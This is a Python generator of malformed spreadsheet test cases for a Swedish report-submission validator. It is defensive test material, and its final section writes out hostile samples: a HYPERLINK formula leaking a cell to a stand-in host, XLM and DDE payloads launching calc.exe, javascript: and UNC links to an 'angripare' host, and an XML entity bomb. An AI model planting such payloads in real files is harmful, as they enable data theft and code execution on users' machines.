"""Generate tests/data/bad/: malformed submissions for the mini cycle (issue #8).

Every case starts from a valid submission (tests.builders) and is then broken the way real
files break: saved in the wrong format, encrypted, truncated, renamed, merged, pasted from
elsewhere. The output is deterministic (the same code gives the same bytes), so the corpus
is reviewed as code and regenerated, never edited by hand:

    .venv/bin/python -m tests.bad_corpus            # rewrites tests/data/bad/
    .venv/bin/python -m tests.bad_corpus OUT_DIR    # anywhere else

Cases whose point is their size (100 000 rows, 100 000-character cells, zip bombs) are not
committed: the tests build them in a temporary folder with the write_* functions below.
What each case must give (message, sheet, row, column) is in tests/test_bad_corpus.py.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import shutil
import struct
import sys
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook

from tests.builders import filled_rows, write_filled
from tertial.access import EXAMPLE_TOKEN_KEY
from tertial.config import load_cycle
from tertial.cycle import Cycle
from tertial.workbooks import pin_ooxml_times, pin_xlsx_timestamps, write_csv_folder

DATA = Path(__file__).resolve().parent / "data"
MINI = DATA / "mini" / "cycle.yaml"
BAD = DATA / "bad"
STAMP = dt.datetime(2025, 5, 2, 8, 0)  # every generated file's document and zip-entry time
ZIP_TIME = STAMP.timetuple()[:6]
Builder = Callable[[Path, Cycle], Path]
CASES: dict[str, Builder] = {}


def case(name: str) -> Callable[[Builder], Builder]:
    def register(build: Builder) -> Builder:
        CASES[name] = build
        return build
    return register


# --- Tools ------------------------------------------------------------------------------


def valid(out: Path, cycle: Cycle, name: str, contributor: str = "barn") -> Path:
    return write_filled(out, cycle, contributor, name=name)


def edit(path: Path, change: Callable[[Workbook], None]) -> Path:
    """Open with openpyxl, change, save with pinned times."""
    workbook = openpyxl.load_workbook(path)
    change(workbook)
    workbook.save(path)
    pin_xlsx_timestamps(path, STAMP)
    return path


def edited(out: Path, cycle: Cycle, name: str, change: Callable[[Workbook], None], contributor: str = "barn") -> Path:
    return edit(valid(out, cycle, name, contributor), change)


def cell(workbook: Workbook, sheet: str, row: int, header: str) -> Cell:
    """A cell found by its header in row 1, as a contributor finds it."""
    ws = workbook[sheet]
    return ws.cell(row, [c.value for c in ws[1]].index(header) + 1)


def setting(sheet: str, row: int, header: str, value: object) -> Callable[[Workbook], None]:
    def change(workbook: Workbook) -> None:
        cell(workbook, sheet, row, header).value = value
    return change


def parts_of(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def write_zip(path: Path, parts: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> Path:
    """A zip with fixed entry times, so the bytes depend only on the parts."""
    with zipfile.ZipFile(path, "w", method) as archive:
        for name, data in parts:
            archive.writestr(zipfile.ZipInfo(name, date_time=ZIP_TIME), data, method)
    return path


def rezip(path: Path, change: Callable[[str, bytes], bytes], extra: list[tuple[str, bytes]] = ()) -> Path:
    """Rewrite every part through `change`, then add `extra` parts."""
    return write_zip(path, [(n, change(n, d)) for n, d in parts_of(path)] + list(extra))


def sheet_part(path: Path, title: str) -> str:
    """openpyxl names sheet parts by position: the n-th sheet is xl/worksheets/sheet<n>.xml."""
    workbook = openpyxl.load_workbook(path, read_only=True)
    try:
        return f"xl/worksheets/sheet{workbook.sheetnames.index(title) + 1}.xml"
    finally:
        workbook.close()


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE2 compound file (CFB v3) holding `streams`, as encrypted xlsx and old .xls are.

    Each stream is padded to the 4 096-byte mini-stream cutoff so it lives in ordinary
    sectors; one FAT sector and one directory sector are enough for the few sectors used.
    """
    names, blobs = list(streams), [d.ljust(max(4096, -(-len(d) // 512) * 512), b"\0") for d in streams.values()]
    fat, start, next_free = [0xFFFFFFFD, 0xFFFFFFFE], [], 2
    for blob in blobs:
        count = len(blob) // 512
        start.append(next_free)
        fat += [next_free + i + 1 for i in range(count - 1)] + [0xFFFFFFFE]
        next_free += count
    assert len(fat) <= 128 and len(names) <= 3, "one FAT sector and one directory sector only"
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
              + struct.pack("<I", 0) + b"\xff" * 4 * 108)
    entries = [_directory_entry("Root Entry", 5, child=1, start=0xFFFFFFFE, size=0)]
    for index, (name, blob) in enumerate(zip(names, blobs), start=1):
        sibling = index + 1 if index < len(names) else 0xFFFFFFFF
        entries.append(_directory_entry(name, 2, right=sibling, start=start[index - 1], size=len(blob)))
    directory = b"".join(entries).ljust(512, b"\0")
    fat_sector = b"".join(struct.pack("<I", v) for v in fat + [0xFFFFFFFF] * (128 - len(fat)))
    return header + fat_sector + directory + b"".join(blobs)


def _directory_entry(name: str, kind: int, *, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF, start: int, size: int) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, 0xFFFFFFFF, right, child)
            + b"\0" * 16 + b"\0" * 4 + b"\0" * 16 + struct.pack("<IQ", start, size))


def keystream_xor(data: bytes, key: bytes) -> bytes:
    """Deterministic stand-in for encryption: XOR with a SHA-256 counter keystream."""
    stream = b"".join(hashlib.sha256(key + i.to_bytes(4, "little")).digest() for i in range(len(data) // 32 + 1))
    return bytes(a ^ b for a, b in zip(data, stream))


# --- Not a workbook at all ----------------------------------------------------------------


@case("text-instead-of-workbook.xlsx")
def _text(out: Path, cycle: Cycle) -> Path:
    path = out / "text-instead-of-workbook.xlsx"
    path.write_text("Hej! Här är våra siffror för tertialen:\nUtfall 72 %\nPrognos 71 %\n", encoding="utf-8")
    return path


@case("pdf-export.xlsx")
def _pdf(out: Path, cycle: Cycle) -> Path:
    path = out / "pdf-export.xlsx"
    path.write_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
    return path


@case("word-document.docx")
def _docx(out: Path, cycle: Cycle) -> Path:
    from docx import Document

    document = Document()
    document.add_paragraph("Tertialrapport 1: Avdelningen för barn och unga. Utfall 72 %.")
    buffer = io.BytesIO()
    document.save(buffer)
    path = out / "word-document.docx"
    path.write_bytes(pin_ooxml_times(buffer.getvalue(), STAMP))
    return path


@case("empty.xlsx")
def _empty(out: Path, cycle: Cycle) -> Path:
    path = out / "empty.xlsx"
    path.write_bytes(b"")
    return path


@case("truncated.xlsx")
def _truncated(out: Path, cycle: Cycle) -> Path:
    path = valid(out, cycle, "truncated.xlsx")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])  # an upload or e-mail cut off half way
    return path


@case("corrupt-entry.xlsx")
def _corrupt_entry(out: Path, cycle: Cycle) -> Path:
    """The Indikatorer sheet's packed bytes damaged in the middle; the zip directory is intact."""
    path = valid(out, cycle, "corrupt-entry.xlsx")
    part = sheet_part(path, "Indikatorer")
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(part)
    name_length, extra_length = struct.unpack("<HH", data[info.header_offset + 26: info.header_offset + 30])
    middle = info.header_offset + 30 + name_length + extra_length + info.compress_size // 2
    data[middle: middle + 16] = bytes(b ^ 0xFF for b in data[middle: middle + 16])
    path.write_bytes(bytes(data))
    return path


@case("encrypted.xlsx")
def _encrypted(out: Path, cycle: Cycle) -> Path:
    """What Excel writes for 'Kryptera med lösenord': an OLE2 file with EncryptionInfo and EncryptedPackage."""
    plain = valid(out, cycle, "encrypted.xlsx").read_bytes()
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512"/></encryption>')
    package = struct.pack("<Q", len(plain)) + keystream_xor(plain, b"hemligt")
    path = out / "encrypted.xlsx"
    path.write_bytes(compound_file({"EncryptionInfo": info, "EncryptedPackage": package}))
    return path


@case("old-format.xls")
def _xls(out: Path, cycle: Cycle) -> Path:
    """Excel 97-2003: an OLE2 file with a 'Workbook' stream of BIFF8 records (here only BOF and EOF)."""
    biff = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06) + struct.pack("<HH", 0x000A, 0)
    path = out / "old-format.xls"
    path.write_bytes(compound_file({"Workbook": biff}))
    return path


@case("macros.xlsm")
def _macros(out: Path, cycle: Cycle) -> Path:
    """A macro-enabled workbook, as Excel (or openpyxl keep_vba) saves it: vbaProject.bin and its content type."""
    path = valid(out, cycle, "macros.xlsm")
    vba = compound_file({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000\r\nName="VBAProject"\r\n'})

    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
            return data.replace(b"<Default ", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ', 1)
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
        return data
    return rezip(path, change, [("xl/vbaProject.bin", vba)])


@case("opendocument.ods")
def _ods(out: Path, cycle: Cycle) -> Path:
    content = (b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table table:name="Indikatorer"/>'
               b"</office:spreadsheet></office:body></office:document-content>")
    return write_zip(out / "opendocument.ods", [
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", content),
        ("META-INF/manifest.xml", b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'),
    ], zipfile.ZIP_STORED)


@case("binary-workbook.xlsb")
def _xlsb(out: Path, cycle: Cycle) -> Path:
    types = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             b'<Override PartName="/xl/workbook.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>')
    return write_zip(out / "binary-workbook.xlsb", [("[Content_Types].xml", types), ("xl/workbook.bin", b"\x83\x01\x00\x84\x01\x00")])


@case("zipped-workbook.zip")
def _zipped(out: Path, cycle: Cycle) -> Path:
    """The workbook sent inside a zip file."""
    inner = valid(out, cycle, "barn-inner.xlsx")
    data = inner.read_bytes()
    inner.unlink()
    return write_zip(out / "zipped-workbook.zip", [("barn.xlsx", data)])


@case("xml-entity-bomb.xlsx")
def _entity_bomb(out: Path, cycle: Cycle) -> Path:
    """'Billion laughs': a DTD whose nested entities expand to 10^9 characters, used in a Status cell."""
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10))) for i in range(1, 10))
    path = valid(out, cycle, "xml-entity-bomb.xlsx")
    part = sheet_part(path, "Indikatorer")

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        bomb = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!DOCTYPE worksheet [' + entities + b"]>"
        return bomb + data.replace(b"<t>Uppfylls helt</t>", b"<t>&lol9;</t>", 1)
    return rezip(path, change)


@case("merged-range-bomb.xlsx")
def _merge_bomb(out: Path, cycle: Cycle) -> Path:
    """One merged range of 1,2 million cells in Texter; openpyxl makes an object per merged cell.

    (A1:XFD1048576 would take openpyxl forever; this size keeps a regression a failing test, not a hang.)
    """
    path = valid(out, cycle, "merged-range-bomb.xlsx")
    part = sheet_part(path, "Texter")
    merge = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:T60000"/></mergeCells>'
    return rezip(path, lambda n, d: d.replace(b"</sheetData>", merge) if n == part else d)


# --- The hidden sheet _tertial ----------------------------------------------------------


@case("no-meta-sheet.xlsx")
def _no_meta(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "no-meta-sheet.xlsx", lambda wb: wb.remove(wb["_tertial"]))


@case("meta-contributor-missing.xlsx")
def _meta_missing(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "meta-contributor-missing.xlsx", lambda wb: wb["_tertial"].delete_rows(2))


@case("meta-formula.xlsx")
def _meta_formula(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "meta-formula.xlsx", lambda wb: setattr(wb["_tertial"]["B1"], "value", '="testdal-t1-"&"2025"'))


@case("last-years-template.xlsx")
def _last_year(out: Path, cycle: Cycle) -> Path:
    def change(wb: Workbook) -> None:
        wb["_tertial"]["B1"].value, wb["_tertial"]["B5"].value = "testdal-t1-2024", "2024"
    return edited(out, cycle, "last-years-template.xlsx", change)


@case("template-version-0.xlsx")
def _version(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "template-version-0.xlsx", lambda wb: setattr(wb["_tertial"]["B3"], "value", "0"))


@case("unknown-contributor.xlsx")
def _unknown_contributor(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "unknown-contributor.xlsx", lambda wb: setattr(wb["_tertial"]["B2"], "value", "ekonomi"))


@case("contributor-lookalike.xlsx")
def _contributor_lookalike(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "contributor-lookalike.xlsx", lambda wb: setattr(wb["_tertial"]["B2"], "value", "b\u0430rn"))


@case("aldre.xlsx")
def _named_for_another(out: Path, cycle: Cycle) -> Path:
    """Barn's workbook in a file named for äldre: identity comes from _tertial, so it is barn's."""
    return valid(out, cycle, "aldre.xlsx", "barn")


# --- Sheets and headers ---------------------------------------------------------------------


@case("renamed-sheet.xlsx")
def _renamed_sheet(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "renamed-sheet.xlsx", lambda wb: setattr(wb["Indikatorer"], "title", "Indikatorer 2025"))


@case("missing-sheet.xlsx")
def _missing_sheet(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "missing-sheet.xlsx", lambda wb: wb.remove(wb["Aktiviteter"]))


@case("economy-sheet-missing.xlsx")
def _economy_missing(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "economy-sheet-missing.xlsx", lambda wb: wb.remove(wb["Ekonomi"]), contributor="stab")


@case("extra-sheet.xlsx")
def _extra_sheet(out: Path, cycle: Cycle) -> Path:
    def change(wb: Workbook) -> None:
        wb.create_sheet("Anteckningar").append(["Egen anteckning", "ignoreras"])
    return edited(out, cycle, "extra-sheet.xlsx", change)


@case("renamed-header.xlsx")
def _renamed_header(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "renamed-header.xlsx", setting("Indikatorer", 1, "Periodens utfall", "Utfall"))


@case("header-case.xlsx")
def _header_case(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "header-case.xlsx", setting("Indikatorer", 1, "Periodens utfall", "periodens  utfall"))


@case("headers-on-row-2.xlsx")
def _headers_row_2(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "headers-on-row-2.xlsx", lambda wb: wb["Indikatorer"].insert_rows(1))


@case("shifted-columns.xlsx")
def _shifted_columns(out: Path, cycle: Cycle) -> Path:
    """An empty column inserted before the headers: columns are found by header, so this reads."""
    return edited(out, cycle, "shifted-columns.xlsx", lambda wb: wb["Indikatorer"].insert_cols(1))


@case("merged-input-cells.xlsx")
def _merged_input(out: Path, cycle: Cycle) -> Path:
    """'Periodens utfall' and 'Utfall män/pojkar' of the first indicator merged: 70 % is lost."""
    def change(wb: Workbook) -> None:
        start, end = cell(wb, "Indikatorer", 2, "Periodens utfall"), cell(wb, "Indikatorer", 2, "Utfall män/pojkar")
        wb["Indikatorer"].merge_cells(f"{start.coordinate}:{end.coordinate}")
    return edited(out, cycle, "merged-input-cells.xlsx", change)


@case("far-right-cell.xlsx")
def _far_right(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "far-right-cell.xlsx", lambda wb: setattr(wb["Texter"]["XFD2"], "value", "x"))


@case("far-down-cell.xlsx")
def _far_down(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "far-down-cell.xlsx", lambda wb: setattr(wb["Texter"]["A1048576"], "value", "x"))


@case("style-only-cells.xlsx")
def _style_only(out: Path, cycle: Cycle) -> Path:
    """Borders drawn down to row 20 000 (style-only cells, no values): not content, so this reads."""
    from openpyxl.styles import Border, Side

    def change(wb: Workbook) -> None:
        line = Border(bottom=Side(style="thin"))
        for row in range(2, 20_001, 7):
            wb["Texter"].cell(row, 5).border = line
    return edited(out, cycle, "style-only-cells.xlsx", change)


@case("nfd-names.xlsx")
def _nfd(out: Path, cycle: Cycle) -> Path:
    """Sheet 'Mål' and status 'Pågår' typed in decomposed form (å = a + ring), as macOS may write them."""
    def change(wb: Workbook) -> None:
        wb["Mål"].title = unicodedata.normalize("NFD", "Mål")
        status = cell(wb, "Aktiviteter", 2, "Status")
        status.value = unicodedata.normalize("NFD", status.value)
    return edited(out, cycle, "nfd-names.xlsx", change)


@case("sheets-protected.xlsx")
def _protected(out: Path, cycle: Cycle) -> Path:
    """Sheets locked with a password for editing (not encryption): still readable."""
    def change(wb: Workbook) -> None:
        for ws in wb.worksheets:
            ws.protection.sheet = True
            ws.protection.password = "hemligt"
    return edited(out, cycle, "sheets-protected.xlsx", change)


# --- Cells ------------------------------------------------------------------------------


@case("formula-in-outcome.xlsx")
def _formula(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "formula-in-outcome.xlsx", setting("Indikatorer", 2, "Periodens utfall", "=70+2"))


@case("formula-in-analysis.xlsx")
def _formula_text(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "formula-in-analysis.xlsx", setting("Mål", 2, "Analys", '=CONCATENATE("Målet ";"nås")'))


@case("error-value.xlsx")
def _error_value(out: Path, cycle: Cycle) -> Path:
    """An Excel error value (#DIV/0!) stored in the cell, as a pasted result of a broken formula."""
    def change(wb: Workbook) -> None:
        target = cell(wb, "Indikatorer", 2, "Periodens utfall")
        target.value = "#DIV/0!"
        assert target.data_type == "e"
    return edited(out, cycle, "error-value.xlsx", change)


@case("date-as-text.xlsx")
def _date_text(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "date-as-text.xlsx", setting("Aktiviteter", 2, "Startdatum", "1 januari 2025"))


@case("date-us-format.xlsx")
def _date_us(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "date-us-format.xlsx", setting("Aktiviteter", 2, "Slutdatum", "12/31/2025"))


@case("date-trailing-text.xlsx")
def _date_trailing(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "date-trailing-text.xlsx", setting("Aktiviteter", 2, "Slutdatum", "2025-12-31 (prel.)"))


@case("date-cells.xlsx")
def _date_cells(out: Path, cycle: Cycle) -> Path:
    """Real Excel date cells, one with a time of day: read as the same ISO dates."""
    def change(wb: Workbook) -> None:
        cell(wb, "Aktiviteter", 2, "Startdatum").value = dt.datetime(2025, 1, 1)
        cell(wb, "Aktiviteter", 2, "Slutdatum").value = dt.datetime(2025, 12, 31, 16, 30)
    return edited(out, cycle, "date-cells.xlsx", change)


@case("percent-as-fraction.xlsx")
def _percent_fraction(out: Path, cycle: Cycle) -> Path:
    """72 % typed as 0.72 in a cell without percent format (Excel shows 0,72)."""
    def change(wb: Workbook) -> None:
        for header, value in (("Periodens utfall", 0.72), ("Utfall män/pojkar", 0.70), ("Utfall kvinnor/flickor", 0.74), ("Prognos helår", 0.71)):
            cell(wb, "Indikatorer", 2, header).value = value
    return edited(out, cycle, "percent-as-fraction.xlsx", change)


@case("percent-over-100.xlsx")
def _percent_over(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "percent-over-100.xlsx", setting("Indikatorer", 2, "Prognos helår", "710 %"))


@case("thousands-separators.xlsx")
def _thousands(out: Path, cycle: Cycle) -> Path:
    """Every space people use between thousands, in the economy owner's amounts (values consistent)."""
    def change(wb: Workbook) -> None:
        row = 4  # äldreomsorg
        for header, value in (("Budget", "1 815,0"), ("Prognos före resultatöverföringar", "1\u00a0817,5"),
                              ("Prognos efter resultatöverföringar", "1\u202f815,0")):
            cell(wb, "Ekonomi", row, header).value = value
        for header, value in (("Budget", "1\u2009003,2"), ("Prognos", "1\u2007003,7")):
            cell(wb, "Investeringar", 2, header).value = value
    return edited(out, cycle, "thousands-separators.xlsx", change, contributor="stab")


@case("thousands-dot-comma.xlsx")
def _thousands_ambiguous(out: Path, cycle: Cycle) -> Path:
    """'1.150 st' and '1,150 st' for 1 150: read as 1,15 (documented); the dot form gets the number_ambiguous warning."""
    def change(wb: Workbook) -> None:
        cell(wb, "Indikatorer", 3, "Periodens utfall").value = "1.150 st"
        cell(wb, "Indikatorer", 3, "Prognos helår").value = "1,150 st"
    return edited(out, cycle, "thousands-dot-comma.xlsx", change)


@case("number-with-words.xlsx")
def _number_words(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "number-with-words.xlsx", setting("Indikatorer", 3, "Periodens utfall", "ca 43 st"))


@case("two-numbers.xlsx")
def _two_numbers(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "two-numbers.xlsx", setting("Indikatorer", 3, "Periodens utfall", "43 45"))


@case("infinite-number.xlsx")
def _infinite(out: Path, cycle: Cycle) -> Path:
    """A number cell holding 1E+999, which Python reads as infinity."""
    return number_cell(out, cycle, "infinite-number.xlsx", b"1E+999")


def number_cell(out: Path, cycle: Cycle, name: str, stored: bytes) -> Path:
    """Barn's second indicator outcome as a number cell holding `stored`, which openpyxl cannot write itself."""
    path = edited(out, cycle, name, setting("Indikatorer", 3, "Periodens utfall", 424242))
    part = sheet_part(path, "Indikatorer")
    return rezip(path, lambda n, d: d.replace(b"<v>424242</v>", b"<v>" + stored + b"</v>") if n == part else d)


@case("tiny-number.xlsx")
def _tiny(out: Path, cycle: Cycle) -> Path:
    """0,0000001 as a number cell: its shortest repr is 1e-07, which must not read as '1 E-7'."""
    return edited(out, cycle, "tiny-number.xlsx", setting("Ekonomi", 5, "Prestationsförändringar", 1e-7), contributor="stab")


@case("status-lowercase.xlsx")
def _status_case(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "status-lowercase.xlsx", setting("Indikatorer", 2, "Status", "uppfylls helt"))


@case("lookalike-status.xlsx")
def _lookalike_status(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "lookalike-status.xlsx", setting("Indikatorer", 2, "Status", "Uppfylls h\u0435lt"))


@case("lookalike-activity-id.xlsx")
def _lookalike_id(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "lookalike-activity-id.xlsx", setting("Aktiviteter", 2, "Id", "1.1.1-\u04101"))


@case("lookalike-assessment-greek.xlsx")
def _lookalike_greek(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "lookalike-assessment-greek.xlsx", setting("Mål", 2, "Bedömning", "Uppfylls del\u03bdis"))


@case("row-deleted.xlsx")
def _row_deleted(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "row-deleted.xlsx", lambda wb: wb["Indikatorer"].delete_rows(3))


@case("duplicate-row.xlsx")
def _duplicate_row(out: Path, cycle: Cycle) -> Path:
    def change(wb: Workbook) -> None:
        ws = wb["Indikatorer"]
        ws.append([c.value for c in ws[2]])
    return edited(out, cycle, "duplicate-row.xlsx", change)


@case("period-from-last-year.xlsx")
def _old_period(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "period-from-last-year.xlsx", setting("Indikatorer", 2, "Period", "Tertial 1 2024"))


# --- CSV folders --------------------------------------------------------------------------


def _csv(out: Path, cycle: Cycle, name: str, contributor: str = "barn") -> Path:
    return write_csv_folder(out / name, cycle, contributor, filled_rows(cycle, contributor), EXAMPLE_TOKEN_KEY)


@case("csv-no-meta")
def _csv_no_meta(out: Path, cycle: Cycle) -> Path:
    folder = _csv(out, cycle, "csv-no-meta")
    (folder / "_tertial.csv").unlink()
    return folder


@case("csv-missing-file")
def _csv_missing(out: Path, cycle: Cycle) -> Path:
    folder = _csv(out, cycle, "csv-missing-file")
    (folder / "aktiviteter.csv").unlink()
    return folder


@case("csv-windows-1252")
def _csv_cp1252(out: Path, cycle: Cycle) -> Path:
    """Saved from Swedish Excel as plain 'CSV (semikolonavgränsad)': Windows-1252, not UTF-8."""
    folder = _csv(out, cycle, "csv-windows-1252")
    for file in sorted(folder.glob("*.csv")):
        file.write_bytes(file.read_text(encoding="utf-8").encode("cp1252"))
    return folder


@case("csv-utf-16")
def _csv_utf16(out: Path, cycle: Cycle) -> Path:
    """Saved as Excel's 'Unicode-text': UTF-16 with a byte-order mark, tab-separated."""
    folder = _csv(out, cycle, "csv-utf-16")
    for file in sorted(folder.glob("*.csv")):
        file.write_bytes(file.read_text(encoding="utf-8").replace(";", "\t").encode("utf-16"))
    return folder


# --- Identity and terminal safety (issue #12) -------------------------------------------------


def meta_setting(key: str, value: str | None) -> Callable[[Workbook], None]:
    """Change (or, with None, remove) one row of the hidden sheet _tertial, found by its key."""
    def change(workbook: Workbook) -> None:
        ws = workbook["_tertial"]
        row = next(r[0].row for r in ws.iter_rows() if r[0].value == key)
        ws.delete_rows(row) if value is None else setattr(ws.cell(row, 2), "value", value)
    return change


@case("claims-another-contributor.xlsx")
def _claims_another(out: Path, cycle: Cycle) -> Path:
    """Barn's own workbook, token and all, relabelled as äldre's: the token is barn's, so it is nobody's."""
    return edited(out, cycle, "claims-another-contributor.xlsx", meta_setting("bidragsgivare", "aldre"))


@case("token-missing.xlsx")
def _token_missing(out: Path, cycle: Cycle) -> Path:
    """Äldre's workbook made outside Tertial: no token row at all."""
    return edited(out, cycle, "token-missing.xlsx", meta_setting("nyckel", None), contributor="aldre")


@case("token-non-ascii.xlsx")
def _token_non_ascii(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "token-non-ascii.xlsx", meta_setting("nyckel", "nyckel-åäö-€-\U0001d4ff"))


@case("markup-in-cells.xlsx")
def _markup(out: Path, cycle: Cycle) -> Path:
    """Rich console markup in a status (quoted back in the finding) and in an analysis text."""
    def change(workbook: Workbook) -> None:
        setting("Indikatorer", 2, "Status", "[/]")(workbook)
        setting("Mål", 2, "Analys", "[bold red]Klart[/] [link=file:///etc/passwd]se här[/link]")(workbook)
    return edited(out, cycle, "markup-in-cells.xlsx", change)

# --- Active content: formulas, links, names and macros that must never reach an output (issue #12) ---------

HOSTILE_LINK = '=HYPERLINK("http://example.invalid/stjal?"&A1,"Klicka här")'
XLM_SHEET = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
             b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
             b'<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>')


def _add_to_package(part: str, content_type: bytes, relationship: bytes, sheet: bytes = b"", names: bytes = b"") -> Callable[[str, bytes], bytes]:
    """A rezip change registering `part` in the content types and the workbook's relationships, and optionally as a sheet and in names."""
    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/%s" ContentType="%s"/></Types>' % (part.encode(), content_type))
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(b"</Relationships>", relationship + b"</Relationships>")
        if name == "xl/workbook.xml":
            return data.replace(b"</sheets>", sheet + b"</sheets>").replace(b"<definedNames/>", b"<definedNames>" + names + b"</definedNames>")
        return data
    return change


@case("array-formula-hyperlink.xlsx")
def _array_formula(out: Path, cycle: Cycle) -> Path:
    """=HYPERLINK(…) entered as an array formula (Ctrl+Shift+Enter), which openpyxl keeps as an ArrayFormula object."""
    from openpyxl.worksheet.formula import ArrayFormula

    def change(wb: Workbook) -> None:
        target = cell(wb, "Mål", 2, "Analys")
        target.value = ArrayFormula(target.coordinate, HOSTILE_LINK)
    return edited(out, cycle, "array-formula-hyperlink.xlsx", change)


@case("cell-hyperlinks.xlsx")
def _cell_links(out: Path, cycle: Cycle) -> Path:
    """Cells linked to javascript: and to a program on a UNC path; the values themselves are fine."""
    def change(wb: Workbook) -> None:
        cell(wb, "Mål", 2, "Analys").hyperlink = "javascript:alert(document.cookie)"
        cell(wb, "Indikatorer", 2, "Analys").hyperlink = "file://///angripare.example/dela/faktura.exe"
        cell(wb, "Texter", 2, "Text").hyperlink = "\\\\angripare.example\\dela\\rapport.xlsm"
    return edited(out, cycle, "cell-hyperlinks.xlsx", change)


@case("defined-name-dde.xlsx")
def _dde_name(out: Path, cycle: Cycle) -> Path:
    """A defined name that starts a program through DDE when a formula uses it."""
    from openpyxl.workbook.defined_name import DefinedName

    def change(wb: Workbook) -> None:
        wb.defined_names["Kalkyl"] = DefinedName("Kalkyl", attr_text="cmd|' /C calc'!A0")
        wb["Mål"].defined_names["Utskrift"] = DefinedName("Utskrift", attr_text="cmd|' /C calc'!A0")
